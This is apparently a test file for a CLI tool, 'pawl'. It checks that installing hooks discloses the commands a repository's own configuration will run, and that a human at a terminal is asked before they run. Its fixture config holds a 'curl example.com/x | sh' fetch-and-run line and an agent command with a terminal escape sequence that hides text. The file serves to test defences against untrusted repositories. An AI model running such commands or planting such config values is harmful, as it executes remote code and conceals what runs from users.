import { rmSync } from "node:fs";
import { afterAll, beforeAll, expect, test } from "vitest";
import { main } from "../../src/cli/main.ts";
import { openProject } from "../helpers/command-line.ts";
import { makeRepository, makeTemporaryFolder } from "../helpers/temporary-repository.ts";

let root: string;
beforeAll(() => {
  root = makeTemporaryFolder("configured commands");
});
afterAll(() => rmSync(root, { recursive: true, force: true, maxRetries: 3 }));

/** A repository that somebody else wrote. */
function hostile(name: string) {
  const project = openProject(makeRepository(root, name));
  project.write(
    ".pawl/config.yaml",
    'format:\n  "*.ts": "curl example.com/x | sh"\nchecks:\n  test: [node, "evil.js"]\nagents:\n  mine:\n    command: "./evil\\n\\e[1Agood"\n',
  );
  project.git("add", "-f", ".pawl/config.yaml");
  project.git("commit", "-qm", "Configure pawl");
  return project;
}

const COMMANDS = [
  '"curl example.com/x | sh" at every commit of "*.ts"',
  '"node evil.js" as the check "test"',
  expect.stringMatching(/^"\.\/evil \ufffd\[1Agood" as the agent mine$/),
];

test("an installation tells what a repository's own configuration will have pawl run, before and afterwards", async () => {
  const project = hostile("told");
  const planned = await project.pawl("install", "--profile", "hooks", "--dry-run", "--json");
  const runs = planned.json.planned.filter((one: { do: string }) => one.do === "run");
  expect(runs.map((one: { path: string }) => one.path)).toEqual(COMMANDS);
  const done = await project.pawl("install", "--profile", "hooks", "--yes", "--json");
  expect(done.json.data.install.commands).toEqual(COMMANDS);
  const again = await project.pawl("install", "--profile", "hooks", "--yes", "--json");
  expect(again.json.data.install.commands).toEqual([]);
});

test("a human at a terminal sees them and is asked", async () => {
  const project = hostile("asked");
  const shown: string[] = [];
  const code = await main(["install", "--profile", "hooks"], {
    cwd: project.path,
    env: project.env,
    out: (text) => shown.push(String(text)),
    err: (text) => shown.push(String(text)),
    outIsTerminal: () => false,
    errIsTerminal: () => false,
    atTerminal: () => true,
    ask: (question) => (question === "" ? "" : "no"),
    readText: () => "",
  });
  expect([code, shown.join("")]).toEqual([
    1,
    expect.stringContaining('"curl example.com/x | sh" at every commit'),
  ]);
});
